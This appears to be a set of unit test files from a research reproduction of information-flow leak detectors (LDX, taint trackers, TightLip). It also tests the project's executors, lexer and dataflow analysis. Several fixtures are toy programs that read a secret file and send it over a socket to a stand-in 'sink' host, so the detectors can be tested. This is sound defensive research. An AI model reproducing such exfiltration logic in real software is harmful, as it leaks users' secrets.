            source_syscalls=frozenset({"read", "read_line"}),
            sink_syscalls=frozenset({"send"}),
        ),
    )
    assert not result.may_abort
    assert ("main", "send") in result.flagged


def test_laundered_content_shapes_split_results():
    # chr() can manufacture separators, so splitting its output has a
    # divergent field count and indexing it may trap.
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var c = chr(parse_int(read(f, 4)));
          close(f);
          var parts = str_split(c, ":");
          var o = open("/out", "w");
          write(o, parts[0]);
          close(o);
        }
        """
    )
    assert result.may_abort


def test_environment_channel_roundtrip():
    # Writing tainted data to a file taints the fs channel; any read
    # after that may return divergent (arbitrary-shape) data.
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = read(f, 8);
          close(f);
          var tmp = open("/tmp/x", "w");
          write(tmp, d);
          close(tmp);
          var back = open("/tmp/x", "r");
          var echoed = read_line(back);
          close(back);
          var o = open("/out", "w");
          print(len(echoed));
          close(o);
        }
        """
    )
    # len() of a SHAPED value is observable: the print is flagged.
    assert ("main", "print") in result.flagged


def test_interprocedural_flow_through_return():
    result = causality(
        """
        fn fetch() {
          var f = open("/in", "r");
          var d = read(f, 8);
          close(f);
          return d;
        }
        fn main() {
          var v = fetch();
          var o = open("/out", "w");
          write(o, v);
          close(o);
        }
        """
    )
    assert ("main", "write") in result.flagged


def test_may_depend_and_causality_possible():
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = read(f, 8);
          close(f);
          var o = open("/out", "w");
          write(o, d);
          close(o);
        }
        """
    )
    assert result.may_depend("main", "write")
    assert not result.may_depend("main", "print")
    assert result.causality_possible()


# -- seed derivation ------------------------------------------------------------


def test_seeds_from_config_projects_source_kinds():
    config = LdxConfig(
        sources=SourceSpec(file_paths={"/etc/secret"}),
        sinks=SinkSpec.network_out(),
    )
    seeds = StaticSeeds.from_config(config)
    assert "read" in seeds.source_syscalls
    assert "read_line" in seeds.source_syscalls
    assert "recv" not in seeds.source_syscalls
    assert "send" in seeds.sink_syscalls
    assert "sink_observe" in seeds.sink_syscalls


def test_seed_fingerprint_ignores_derived_globals():
    base = StaticSeeds(frozenset({"read"}), frozenset({"write"}))
    enriched = StaticSeeds(
        frozenset({"read"}),
        frozenset({"write"}),
        racy_globals=frozenset({"g"}),
        shared_globals=frozenset({"h"}),
    )
    assert base.fingerprint() == enriched.fingerprint()
