"""Unit tests for the cell-executor interface and its local backends.

MultiHost behavior that needs real worker nodes lives in
tests/integration/test_distributed.py; here we cover the contract
surface: node-spec parsing, executor selection, serial streaming, the
wire blob codec and the pure helpers of the multihost scheduler.
"""

import time

import pytest

from repro.eval import parallel
from repro.eval.executors import (
    EXECUTOR_NAMES,
    ExecutorError,
    LocalPoolExecutor,
    MultiHostExecutor,
    SerialExecutor,
    make_executor,
    parse_nodes,
)
from repro.eval.executors.multihost import _batch_size, _warm_list
from repro.eval.executors.node import decode_blob, encode_blob


# -- parse_nodes ---------------------------------------------------------------


def test_parse_nodes_comma_separated():
    assert parse_nodes("localhost,big-box,localhost") == [
        "localhost", "big-box", "localhost",
    ]


def test_parse_nodes_multiplier_expands():
    assert parse_nodes("localhost*3") == ["localhost"] * 3
    assert parse_nodes("a*2,b") == ["a", "a", "b"]


def test_parse_nodes_tolerates_whitespace_and_blanks():
    assert parse_nodes(" localhost , ,remote ") == ["localhost", "remote"]


@pytest.mark.parametrize("spec", ["", "  ", ","])
def test_parse_nodes_rejects_empty_spec(spec):
    with pytest.raises(ExecutorError, match="names no worker nodes"):
        parse_nodes(spec)


def test_parse_nodes_rejects_bad_multiplier():
    with pytest.raises(ExecutorError, match="bad node multiplier"):
        parse_nodes("localhost*lots")
    with pytest.raises(ExecutorError, match="must be >= 1"):
        parse_nodes("localhost*0")


def test_parse_nodes_rejects_empty_host():
    with pytest.raises(ExecutorError, match="empty host"):
        parse_nodes("*3")


# -- make_executor -------------------------------------------------------------


def test_make_executor_defaults_to_auto():
    assert make_executor(None) is None


def test_make_executor_serial():
    executor = make_executor("serial")
    assert isinstance(executor, SerialExecutor)
    executor.close()


def test_make_executor_local_pool():
    executor = make_executor("local", jobs=2)
    assert isinstance(executor, LocalPoolExecutor)
    executor.close()  # pool is lazy: close before it ever spawned


def test_make_executor_nodes_alone_implies_multihost():
    executor = make_executor(None, nodes="localhost,localhost")
    assert isinstance(executor, MultiHostExecutor)
    executor.close()


def test_make_executor_multihost_without_nodes_is_an_error():
    with pytest.raises(ExecutorError, match="--nodes"):
        make_executor("multihost")


def test_make_executor_rejects_unknown_backend():
    with pytest.raises(ExecutorError, match="unknown executor"):
        make_executor("quantum")


@pytest.mark.parametrize("spec", ["serial", "local"])
def test_make_executor_rejects_nodes_with_single_host_backend(spec):
    # Silently ignoring --nodes would run a "distributed" sweep on one
    # machine without a word of warning.
    with pytest.raises(ExecutorError, match="only applies to the multihost"):
        make_executor(spec, nodes="localhost,localhost")


def test_executor_names_cover_every_backend():
    assert EXECUTOR_NAMES == ("serial", "local", "multihost")
    for name in ("serial", "local"):
        executor = make_executor(name)
        assert executor is not None
        executor.close()


# -- SerialExecutor ------------------------------------------------------------


@pytest.fixture
def square_cells(monkeypatch):
    """Register a trivial in-process cell kind so executor mechanics can
    be tested without running real workloads."""
    monkeypatch.setitem(parallel._CELL_RUNNERS, "square", lambda n: n ** 2)
    return [("square", (n,)) for n in range(7)]


def test_serial_executor_streams_in_plan_order(square_cells):
    with SerialExecutor() as executor:
        executor.submit(square_cells)
        pairs = list(executor.stream())
    assert pairs == [(n, n * n) for n in range(7)]


def test_serial_executor_run_reassembles(square_cells):
    with SerialExecutor() as executor:
        assert executor.run(square_cells) == [n * n for n in range(7)]


def test_serial_executor_serves_multiple_rounds(square_cells):
    with SerialExecutor() as executor:
        assert executor.run(square_cells[:3]) == [0, 1, 4]
        assert executor.run(square_cells[3:]) == [9, 16, 25, 36]


def test_serial_executor_close_mid_round_is_safe(square_cells):
    executor = SerialExecutor()
    executor.submit(square_cells)
    next(executor.stream())
    executor.close()
    executor.close()  # idempotent


def test_fan_out_uses_caller_executor(square_cells):
    with SerialExecutor() as executor:
        results = parallel.fan_out(square_cells, jobs=1, executor=executor)
    assert results == [n * n for n in range(7)]


# -- wire codec ----------------------------------------------------------------


def test_blob_roundtrip_preserves_tuples():
    # Chaos payloads nest tuples; JSON alone would degrade them to
    # lists and break content-addressed cell keys.
    payload = [("chaos", ("gzip", (0, 1, 2), 0.1, 25_000.0, None))]
    assert decode_blob(encode_blob(payload)) == payload
    assert isinstance(decode_blob(encode_blob(payload))[0][1][1], tuple)


# -- multihost scheduler helpers ----------------------------------------------


def test_batch_size_targets_steal_factor():
    # 64 cells on 2 nodes -> 64 // (2*4) = 8 per batch.
    assert _batch_size(64, 2) == 8
    # Never exceeds MAX_BATCH even for huge rounds.
    assert _batch_size(10_000, 2) == 8
    # Small rounds degrade to single-cell batches.
    assert _batch_size(3, 2) == 1
    assert _batch_size(0, 2) == 1


def test_warm_list_collects_distinct_workloads():
    cells = [
        ("table1", ("gzip",)),
        ("chaos", ("bzip2", (0, 1), 0.1, 25_000.0, None)),
        ("mutation", ("baseline", ("gzip", "apache"))),
        ("table1", ("gzip",)),
    ]
    assert _warm_list(cells) == ["gzip", "bzip2", "apache"]


def test_multihost_constructor_validates():
    with pytest.raises(ExecutorError, match="at least one node"):
        MultiHostExecutor([])
    with pytest.raises(ExecutorError, match="window"):
        MultiHostExecutor(["localhost"], window=0)


def test_truncated_result_frame_kills_node_and_redispatches():
    """A result frame with fewer results than the batch had cells must
    not silently drop the missing cells (zip truncation would hang the
    round forever): the node is declared dead and the whole batch is
    re-dispatched to a survivor."""
    from repro.eval.executors.multihost import _Node

    executor = MultiHostExecutor(["a", "b"])
    node_a, node_b = _Node("a", 0), _Node("b", 1)
    sent = []
    for fake in (node_a, node_b):
        fake.alive = fake.ready = True
        fake.last_seen = time.monotonic()
        fake.send = lambda msg: sent.append(msg)  # no real process
    executor._nodes = [node_a, node_b]
    batch = [(0, ("square", (2,))), (1, ("square", (3,)))]
    node_a.inflight[7] = batch
    executor._round_pending = 2
    # Node a answers batch 7 with one result for two cells...
    executor._events.put((0, {
        "op": "result", "batch": 7, "data": encode_blob(["short"]),
    }))
    # ...and the re-dispatched batch (the executor assigns it batch
    # id 0) comes back complete from node b.
    executor._events.put((1, {
        "op": "result", "batch": 0, "data": encode_blob([4, 9]),
    }))
    assert dict(executor.stream()) == {0: 4, 1: 9}
    assert not node_a.alive
    assert executor.redispatched_cells == 2
    assert sent and sent[-1]["op"] == "run"
