"""Unit tests for the cell-executor interface and its local backends.

MultiHost behavior that needs real worker nodes lives in
tests/integration/test_distributed.py; here we cover the contract
surface: node-spec parsing, executor selection, serial streaming, the
wire blob codec and the pure helpers of the multihost scheduler.
"""

import pytest

from repro.eval import parallel
from repro.eval.executors import (
    EXECUTOR_NAMES,
    ExecutorError,
    LocalPoolExecutor,
    MultiHostExecutor,
    SerialExecutor,
    make_executor,
    parse_nodes,
)
from repro.eval.executors.multihost import _batch_size, _warm_list
from repro.eval.executors.node import decode_blob, encode_blob


# -- parse_nodes ---------------------------------------------------------------


def test_parse_nodes_comma_separated():
    assert parse_nodes("localhost,big-box,localhost") == [
        "localhost", "big-box", "localhost",
    ]


def test_parse_nodes_multiplier_expands():
    assert parse_nodes("localhost*3") == ["localhost"] * 3
    assert parse_nodes("a*2,b") == ["a", "a", "b"]


def test_parse_nodes_tolerates_whitespace_and_blanks():
    assert parse_nodes(" localhost , ,remote ") == ["localhost", "remote"]


@pytest.mark.parametrize("spec", ["", "  ", ","])
def test_parse_nodes_rejects_empty_spec(spec):
    with pytest.raises(ExecutorError, match="names no worker nodes"):
        parse_nodes(spec)


def test_parse_nodes_rejects_bad_multiplier():
    with pytest.raises(ExecutorError, match="bad node multiplier"):
        parse_nodes("localhost*lots")
    with pytest.raises(ExecutorError, match="must be >= 1"):
        parse_nodes("localhost*0")


def test_parse_nodes_rejects_empty_host():
    with pytest.raises(ExecutorError, match="empty host"):
        parse_nodes("*3")


# -- make_executor -------------------------------------------------------------


def test_make_executor_defaults_to_auto():
    assert make_executor(None) is None


def test_make_executor_serial():
    executor = make_executor("serial")
    assert isinstance(executor, SerialExecutor)
    executor.close()


def test_make_executor_local_pool():
    executor = make_executor("local", jobs=2)
    assert isinstance(executor, LocalPoolExecutor)
    executor.close()  # pool is lazy: close before it ever spawned


def test_make_executor_nodes_alone_implies_multihost():
    executor = make_executor(None, nodes="localhost,localhost")
    assert isinstance(executor, MultiHostExecutor)
    executor.close()


def test_make_executor_multihost_without_nodes_is_an_error():
    with pytest.raises(ExecutorError, match="--nodes"):
        make_executor("multihost")


def test_make_executor_rejects_unknown_backend():
    with pytest.raises(ExecutorError, match="unknown executor"):
        make_executor("quantum")


def test_executor_names_cover_every_backend():
    assert EXECUTOR_NAMES == ("serial", "local", "multihost")
    for name in ("serial", "local"):
        executor = make_executor(name)
        assert executor is not None
        executor.close()


# -- SerialExecutor ------------------------------------------------------------


@pytest.fixture
def square_cells(monkeypatch):
    """Register a trivial in-process cell kind so executor mechanics can
    be tested without running real workloads."""
    monkeypatch.setitem(parallel._CELL_RUNNERS, "square", lambda n: n ** 2)
    return [("square", (n,)) for n in range(7)]


def test_serial_executor_streams_in_plan_order(square_cells):
    with SerialExecutor() as executor:
        executor.submit(square_cells)
        pairs = list(executor.stream())
    assert pairs == [(n, n * n) for n in range(7)]


def test_serial_executor_run_reassembles(square_cells):
    with SerialExecutor() as executor:
        assert executor.run(square_cells) == [n * n for n in range(7)]


def test_serial_executor_serves_multiple_rounds(square_cells):
    with SerialExecutor() as executor:
        assert executor.run(square_cells[:3]) == [0, 1, 4]
        assert executor.run(square_cells[3:]) == [9, 16, 25, 36]


def test_serial_executor_close_mid_round_is_safe(square_cells):
    executor = SerialExecutor()
    executor.submit(square_cells)
    next(executor.stream())
    executor.close()
    executor.close()  # idempotent


def test_fan_out_uses_caller_executor(square_cells):
    with SerialExecutor() as executor:
        results = parallel.fan_out(square_cells, jobs=1, executor=executor)
    assert results == [n * n for n in range(7)]


# -- wire codec ----------------------------------------------------------------


def test_blob_roundtrip_preserves_tuples():
    # Chaos payloads nest tuples; JSON alone would degrade them to
    # lists and break content-addressed cell keys.
    payload = [("chaos", ("gzip", (0, 1, 2), 0.1, 25_000.0, None))]
    assert decode_blob(encode_blob(payload)) == payload
    assert isinstance(decode_blob(encode_blob(payload))[0][1][1], tuple)


# -- multihost scheduler helpers ----------------------------------------------


def test_batch_size_targets_steal_factor():
    # 64 cells on 2 nodes -> 64 // (2*4) = 8 per batch.
    assert _batch_size(64, 2) == 8
    # Never exceeds MAX_BATCH even for huge rounds.
    assert _batch_size(10_000, 2) == 8
    # Small rounds degrade to single-cell batches.
    assert _batch_size(3, 2) == 1
    assert _batch_size(0, 2) == 1


def test_warm_list_collects_distinct_workloads():
    cells = [
        ("table1", ("gzip",)),
        ("chaos", ("bzip2", (0, 1), 0.1, 25_000.0, None)),
        ("mutation", ("baseline", ("gzip", "apache"))),
        ("table1", ("gzip",)),
    ]
    assert _warm_list(cells) == ["gzip", "bzip2", "apache"]


def test_multihost_constructor_validates():
    with pytest.raises(ExecutorError, match="at least one node"):
        MultiHostExecutor([])
    with pytest.raises(ExecutorError, match="window"):
        MultiHostExecutor(["localhost"], window=0)
