"""Unit tests for the dynamic-taint tracker (LIBDFT/TaintGrind models)."""

import pytest

from repro.baselines.taint import run_taint
from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.ir import compile_source
from repro.vos.world import World


def taint_run(source, tool="taintgrind", secret="7", sinks=None):
    world = World(seed=1)
    world.fs.add_file("/secret", secret)
    world.network.register("sink", 1, lambda req: "")
    config = LdxConfig(
        SourceSpec(file_paths={"/secret"}),
        sinks or SinkSpec.network_out(),
    )
    return run_taint(compile_source(source), world, config, tool)


HEADER = """
fn main() {
  var fd = open("/secret", "r");
  var x = read(fd, 8);
  close(fd);
"""


def test_taint_through_arithmetic():
    result = taint_run(HEADER + """
      var y = parse_int(x) * 3 - 1;
      var s = socket(); connect(s, "sink", 1);
      send(s, y);
    }""")
    assert result.tainted_sinks == 1


def test_taint_through_function_call_and_return():
    result = taint_run("""
    fn launder(v) { var w = v + 1; return w; }
    """ + HEADER + """
      var s = socket(); connect(s, "sink", 1);
      send(s, launder(x));
    }""")
    assert result.tainted_sinks == 1


def test_constant_overwrite_clears_taint():
    result = taint_run(HEADER + """
      x = "clean";
      var s = socket(); connect(s, "sink", 1);
      send(s, x);
    }""")
    assert result.tainted_sinks == 0


def test_element_level_list_taint():
    # Only the tainted element carries taint; its clean neighbour does
    # not (byte-level tools track individual locations).
    result = taint_run(HEADER + """
      var cells = [0, 0];
      cells[0] = x;
      var s = socket(); connect(s, "sink", 1);
      send(s, cells[1]);
    }""")
    assert result.tainted_sinks == 0
    result2 = taint_run(HEADER + """
      var cells = [0, 0];
      cells[0] = x;
      var s = socket(); connect(s, "sink", 1);
      send(s, cells[0]);
    }""")
    assert result2.tainted_sinks == 1


def test_index_taint_not_propagated():
    # Loading through a tainted index yields the (clean) element — the
    # no-pointer-taint policy of PIN/Valgrind tools.
    result = taint_run(HEADER + """
      var table = [10, 20, 30];
      var i = parse_int(x) % 3;
      var s = socket(); connect(s, "sink", 1);
      send(s, table[i]);
    }""")
    assert result.tainted_sinks == 0


def test_control_dependence_not_propagated():
    result = taint_run(HEADER + """
      var y = 0;
      if (parse_int(x) > 3) { y = 1; }
      var s = socket(); connect(s, "sink", 1);
      send(s, y);
    }""")
    assert result.tainted_sinks == 0


def test_libdft_unmodeled_builtin_drops_taint():
    source = HEADER + """
      var parts = str_split(x + ",t", ",");
      var s = socket(); connect(s, "sink", 1);
      send(s, parts[0]);
    }"""
    assert taint_run(source, tool="libdft").tainted_sinks == 0
    assert taint_run(source, tool="taintgrind").tainted_sinks == 1


def test_push_propagates_into_list():
    result = taint_run(HEADER + """
      var acc = [];
      push(acc, x);
      var s = socket(); connect(s, "sink", 1);
      send(s, acc[0]);
    }""")
    assert result.tainted_sinks == 1


def test_whole_list_argument_carries_element_taint():
    # Passing the list to a builtin (str_join) aggregates element taint.
    result = taint_run(HEADER + """
      var acc = [0, 0];
      acc[1] = x;
      var s = socket(); connect(s, "sink", 1);
      send(s, str_join(acc, "-"));
    }""")
    assert result.tainted_sinks == 1


def test_taint_counts_total_sinks():
    result = taint_run(HEADER + """
      var s = socket(); connect(s, "sink", 1);
      send(s, "clean");
      send(s, x);
      send(s, "clean2");
    }""")
    assert result.sinks_total == 3
    assert result.tainted_sinks == 1
