"""Unit tests for the mutation strategies."""

from repro.core.mutation import (
    RandomMutation,
    STRATEGIES,
    bit_flip,
    global_off_by_one,
    off_by_minus_one,
    off_by_one,
    zeroing,
)


def test_off_by_one_int():
    assert off_by_one(7) == 8
    assert off_by_one(True) is False


def test_off_by_one_string_first_data_char():
    assert off_by_one("abc") == "bbc"
    assert off_by_one("  x") == "  y"
    assert off_by_one("9") == "0"  # digits wrap within digits
    assert off_by_one("z") == "a"  # letters wrap within letters
    assert off_by_one("Z") == "A"


def test_off_by_one_skips_framing():
    assert off_by_one("--=--") == "--=--"
    assert off_by_one("") == ""


def test_off_by_one_list_mutates_head():
    assert off_by_one([1, 2, 3]) == [2, 2, 3]
    assert off_by_one([]) == []


def test_off_by_minus_one_inverse_on_mid_range():
    assert off_by_minus_one(off_by_one(41)) == 41
    assert off_by_minus_one("bcd") == "acd"


def test_zeroing():
    assert zeroing(123) == 0
    assert zeroing("ab-1") == "00-0"
    assert zeroing([5, "x"]) == [0, "0"]


def test_bit_flip():
    assert bit_flip(4) == 5
    assert bit_flip(5) == 4
    flipped = bit_flip("a")
    assert flipped != "a" and len(flipped) == 1


def test_global_off_by_one_touches_everything():
    assert global_off_by_one("ab1-z9") == "bc2-a0"
    assert global_off_by_one([1, "a"]) == [2, "b"]


def test_random_mutation_deterministic_per_seed():
    a = RandomMutation(seed=5)
    b = RandomMutation(seed=5)
    assert a("hello") == b("hello")
    changed = RandomMutation(seed=5)("hello")
    assert changed != "hello"


def test_strategy_registry():
    assert set(STRATEGIES) == {
        "off_by_one",
        "off_by_minus_one",
        "zeroing",
        "bit_flip",
    }
