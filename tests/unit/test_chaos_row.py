"""Unit tests for ChaosRow merging and chaos-report rendering limits."""

import pytest

from repro.eval.robustness import MAX_RENDERED_VIOLATIONS, ChaosRow, render_chaos


def _row(name, violations=(), runs=1):
    row = ChaosRow(name, threads=1)
    row.runs = runs
    row.violations = list(violations)
    return row


def test_merge_accumulates_counts_and_violations():
    first = _row("gzip", ["leak seed 0: real leak masked by faults"])
    second = _row("gzip", ["leak seed 1: real leak masked by faults"])
    second.faults_injected = 3
    merged = first.merge(second)
    assert merged is first
    assert merged.runs == 2
    assert merged.faults_injected == 3
    assert len(merged.violations) == 2


def test_merge_mismatched_workloads_raises_value_error():
    # Must be a real exception, not an assert: ``python -O`` strips
    # asserts and a mis-planned merge would silently corrupt a row.
    with pytest.raises(ValueError) as excinfo:
        _row("gzip").merge(_row("bzip2"))
    assert "gzip" in str(excinfo.value)
    assert "bzip2" in str(excinfo.value)


def test_render_chaos_shows_all_violations_under_the_cap():
    rows = [_row("gzip", [f"leak seed {n}: masked" for n in range(3)])]
    text = render_chaos(rows, seeds=3, rate=0.1)
    assert text.count("VIOLATION:") == 3
    assert "more violations" not in text


def test_render_chaos_reports_the_truncated_tail():
    extra = 7
    violations = [
        f"leak seed {n}: masked" for n in range(MAX_RENDERED_VIOLATIONS + extra)
    ]
    text = render_chaos([_row("gzip", violations)], seeds=1, rate=0.1)
    assert text.count("VIOLATION:") == MAX_RENDERED_VIOLATIONS
    assert f"... and {extra} more violations" in text
    # The summary line still counts every violation, not just the shown ones.
    assert f"{MAX_RENDERED_VIOLATIONS + extra} invariant violations" in text
