"""Unit tests for the TightLip baseline."""

from repro.baselines.tightlip import run_tightlip
from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.ir import compile_source
from repro.vos.world import World


def tightlip(source, secret="7", window=2):
    world = World(seed=1)
    world.fs.add_file("/secret", secret)
    world.network.register("sink", 1, lambda req: "")
    config = LdxConfig(
        SourceSpec(file_paths={"/secret"}), SinkSpec.network_out()
    )
    return run_tightlip(compile_source(source), world, config, window=window)


def test_identical_traces_no_leak():
    result = tightlip("""
    fn main() {
      var fd = open("/secret", "r");
      read(fd, 8);
      close(fd);
      print("constant");
    }
    """)
    assert not result.leak_reported
    assert result.syscalls_compared > 0


def test_output_content_difference_reported():
    result = tightlip("""
    fn main() {
      var fd = open("/secret", "r");
      var x = read(fd, 8);
      close(fd);
      var s = socket();
      connect(s, "sink", 1);
      send(s, x);
    }
    """)
    assert result.leak_reported
    assert "send" in result.divergence_reason or "output" in result.divergence_reason


def test_sequence_divergence_terminates_doppelganger():
    result = tightlip("""
    fn main() {
      var fd = open("/secret", "r");
      var x = parse_int(read(fd, 8));
      close(fd);
      if (x == 7) {
        print("a");
      } else {
        var e1 = open("/tmp_a", "w");
        close(e1);
        var e2 = open("/tmp_b", "w");
        close(e2);
        var e3 = open("/tmp_c", "w");
        close(e3);
      }
    }
    """)
    assert result.leak_reported
    assert result.terminated_early


def test_window_tolerates_small_reorderings():
    # The branch swaps the order of two syscalls; positional matching
    # with a window absorbs the reordering (TightLip's coarse tolerance).
    result = tightlip(
        """
        fn main() {
          var fd = open("/secret", "r");
          var x = parse_int(read(fd, 8));
          close(fd);
          if (x == 7) { getpid(); time(); } else { time(); getpid(); }
        }
        """,
        window=2,
    )
    assert not result.leak_reported


def test_trace_length_mismatch_reported():
    # The master performs one extra syscall the slave skips: every
    # slave entry matches within the window, but the lengths differ.
    result = tightlip(
        """
        fn main() {
          var fd = open("/secret", "r");
          var x = parse_int(read(fd, 8));
          close(fd);
          if (x == 7) { getpid(); }
        }
        """,
        window=3,
    )
    assert result.leak_reported
    assert result.divergence_reason == "trace lengths differ"
