"""Unit tests for the per-workload circuit breaker."""

from repro.serve.breaker import CLOSED, HALF_OPEN, OPEN, BreakerBoard, CircuitBreaker


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


def test_closed_allows_and_counts_failures():
    breaker = CircuitBreaker(threshold=3, clock=FakeClock())
    assert breaker.allow()
    breaker.record_failure()
    breaker.record_failure()
    assert breaker.state == CLOSED
    assert breaker.allow()


def test_threshold_trips_open():
    clock = FakeClock()
    breaker = CircuitBreaker(threshold=3, cooldown=30.0, clock=clock)
    for _ in range(3):
        breaker.record_failure()
    assert breaker.state == OPEN
    assert breaker.trips == 1
    assert not breaker.allow()


def test_success_resets_failure_count():
    breaker = CircuitBreaker(threshold=3, clock=FakeClock())
    breaker.record_failure()
    breaker.record_failure()
    breaker.record_success()
    breaker.record_failure()
    breaker.record_failure()
    assert breaker.state == CLOSED


def test_half_open_admits_exactly_one_probe():
    clock = FakeClock()
    breaker = CircuitBreaker(threshold=1, cooldown=30.0, clock=clock)
    breaker.record_failure()
    assert breaker.state == OPEN
    assert not breaker.allow()
    clock.now = 31.0
    assert breaker.allow()  # the probe
    assert breaker.state == HALF_OPEN
    assert not breaker.allow()  # everyone else still fast-fails


def test_probe_success_closes():
    clock = FakeClock()
    breaker = CircuitBreaker(threshold=1, cooldown=30.0, clock=clock)
    breaker.record_failure()
    clock.now = 31.0
    assert breaker.allow()
    breaker.record_success()
    assert breaker.state == CLOSED
    assert breaker.allow()


def test_probe_failure_reopens_for_another_cooldown():
    clock = FakeClock()
    breaker = CircuitBreaker(threshold=1, cooldown=30.0, clock=clock)
    breaker.record_failure()
    clock.now = 31.0
    assert breaker.allow()
    breaker.record_failure()
    assert breaker.state == OPEN
    assert breaker.trips == 2
    assert not breaker.allow()
    clock.now = 62.0
    assert breaker.allow()


def test_board_keys_breakers_independently():
    clock = FakeClock()
    board = BreakerBoard(threshold=1, cooldown=30.0, clock=clock)
    board.breaker_for("a").record_failure()
    assert board.breaker_for("a").state == OPEN
    assert board.breaker_for("b").state == CLOSED
    assert board.breaker_for("a") is board.breaker_for("a")
    snapshot = board.snapshot()
    assert snapshot["a"]["state"] == OPEN
    assert snapshot["b"]["trips"] == 0
