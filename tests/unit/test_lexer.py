"""Unit tests for the MiniC lexer."""

import pytest

from repro.errors import LexerError
from repro.lang.lexer import tokenize
from repro.lang.tokens import EOF, INT, NAME, STRING


def kinds(source):
    return [token.kind for token in tokenize(source)]


def test_empty_source_yields_eof():
    tokens = tokenize("")
    assert len(tokens) == 1
    assert tokens[0].kind == EOF


def test_integer_literal():
    tokens = tokenize("42")
    assert tokens[0].kind == INT
    assert tokens[0].value == 42


def test_identifier_and_keyword():
    tokens = tokenize("foo while")
    assert tokens[0].kind == NAME
    assert tokens[0].text == "foo"
    assert tokens[1].kind == "while"


def test_string_literal_with_escapes():
    tokens = tokenize('"a\\nb\\t\\"c\\\\"')
    assert tokens[0].kind == STRING
    assert tokens[0].value == 'a\nb\t"c\\'


def test_unterminated_string_raises():
    with pytest.raises(LexerError):
        tokenize('"abc')


def test_string_may_not_span_lines():
    with pytest.raises(LexerError):
        tokenize('"abc\ndef"')


def test_unknown_escape_raises():
    with pytest.raises(LexerError):
        tokenize('"\\q"')


def test_line_comment_skipped():
    assert kinds("1 // comment\n2") == [INT, INT, EOF]


def test_block_comment_skipped():
    assert kinds("1 /* multi\nline */ 2") == [INT, INT, EOF]


def test_unterminated_block_comment_raises():
    with pytest.raises(LexerError):
        tokenize("/* never closed")


def test_two_char_operators_win_over_one_char():
    assert kinds("== != <= >= && || +=") == [
        "==",
        "!=",
        "<=",
        ">=",
        "&&",
        "||",
        "+=",
        EOF,
    ]


def test_positions_track_lines_and_columns():
    tokens = tokenize("a\n  b")
    assert (tokens[0].location.line, tokens[0].location.column) == (1, 1)
    assert (tokens[1].location.line, tokens[1].location.column) == (2, 3)


def test_identifier_cannot_start_with_digit():
    with pytest.raises(LexerError):
        tokenize("1abc")


def test_unexpected_character_raises():
    with pytest.raises(LexerError):
        tokenize("@")


def test_keywords_are_not_names():
    for word in ("fn", "var", "if", "else", "return", "true", "false", "nil"):
        assert tokenize(word)[0].kind == word
