"""Unit tests for the worklist dataflow framework and its instances."""

from repro.analysis.dataflow import (
    FORWARD,
    MUST,
    PARAM_DEF,
    UNINIT_DEF,
    DataflowProblem,
    LiveVariables,
    ReachingDefinitions,
    dead_stores,
    local_names,
    solve,
)
from repro.ir import compile_source
from repro.ir import instructions as ins


def compile_main(source):
    return compile_source(source).function("main")


def syscall_index(function, name):
    return next(
        index
        for index, instr in enumerate(function.instrs)
        if isinstance(instr, ins.Syscall) and instr.name == name
    )


def test_reaching_definitions_merge_at_join():
    main = compile_main(
        """
        fn main() {
          var x = 1;
          if (x > 0) { x = 2; } else { x = 3; }
          print(x);
        }
        """
    )
    problem = ReachingDefinitions(main)
    result = solve(problem, main)
    at_print = syscall_index(main, "print")
    sites = problem.defs_reaching(result, at_print, "x")
    # Both branch assignments reach the print; the initial x = 1 is
    # killed on every path, and x was never a parameter or uninit.
    assert len(sites) == 2
    assert PARAM_DEF not in sites and UNINIT_DEF not in sites
    for site in sites:
        assert main.instrs[site].defs() == "x"


def test_reaching_definitions_params_at_entry():
    module = compile_source("fn f(a) { return a + 1; } fn main() { f(1); }")
    function = module.function("f")
    problem = ReachingDefinitions(function)
    result = solve(problem, function)
    use = next(
        index
        for index, instr in enumerate(function.instrs)
        if "a" in instr.uses()
    )
    assert problem.defs_reaching(result, use, "a") == frozenset({PARAM_DEF})


def test_uninitialized_read_reached_by_uninit_def():
    main = compile_main(
        """
        fn main() {
          var c = 0;
          if (c == 1) { var y = 5; }
          var z = y + 1;
          print(z);
        }
        """
    )
    problem = ReachingDefinitions(main)
    result = solve(problem, main)
    use = next(
        index
        for index, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Binop) and "y" in instr.uses()
    )
    sites = problem.defs_reaching(result, use, "y")
    assert UNINIT_DEF in sites
    assert len(sites) == 2  # the guarded y = 5 may also reach


def test_dead_store_found_and_live_chain_not():
    main = compile_main(
        """
        fn main() {
          var unused = 41;
          var a = 1;
          var b = a + 1;
          print(b);
        }
        """
    )
    dead = dead_stores(main)
    dead_names = {main.instrs[index].defs() for index in dead}
    assert "unused" in dead_names
    assert "b" not in dead_names and "a" not in dead_names


def test_live_variables_globals_live_at_exit():
    module = compile_source(
        """
        var g = 0;
        fn main() { g = 7; }
        """
    )
    main = module.function("main")
    result = solve(LiveVariables(main, frozenset({"g"})), main)
    store = next(
        index
        for index, instr in enumerate(main.instrs)
        if instr.defs() == "g"
    )
    # The global write is live (other functions/threads may read it)...
    assert "g" in result.after(store)
    # ...so it is not a dead store either.
    assert dead_stores(main, frozenset({"g"})) == []


def test_local_names_exclude_globals():
    module = compile_source(
        """
        var g = 0;
        fn main() { var x = g + 1; print(x); }
        """
    )
    names = local_names(module.function("main"), frozenset({"g"}))
    assert "x" in names
    assert "g" not in names


class _Reached(DataflowProblem):
    """Forward/must probe: any node still at TOP is must-unreached."""

    direction = FORWARD
    kind = MUST

    def boundary(self):
        return frozenset({"start"})

    def transfer(self, index, instr, fact):
        return fact


def test_must_problem_reports_unreachable_as_none():
    main = compile_main(
        """
        fn main() {
          var x = 1;
          return;
          print(x);
        }
        """
    )
    result = solve(_Reached(), main)
    reachable = set()
    pending = [main.entry]
    while pending:
        node = pending.pop()
        if node in reachable:
            continue
        reachable.add(node)
        pending.extend(main.successors(node))
    assert reachable != set(range(len(main.instrs)))  # the print is dead
    for index in range(len(main.instrs)):
        if index in reachable:
            assert result.before(index) == frozenset({"start"})
        else:
            assert result.before(index) is None


def test_unused_write_warns_on_overwritten_store():
    from repro.analysis.lint import lint_module

    module = compile_source(
        """
        fn main() {
          var x = 1 + 1;
          x = 2 + 2;
          print(x);
        }
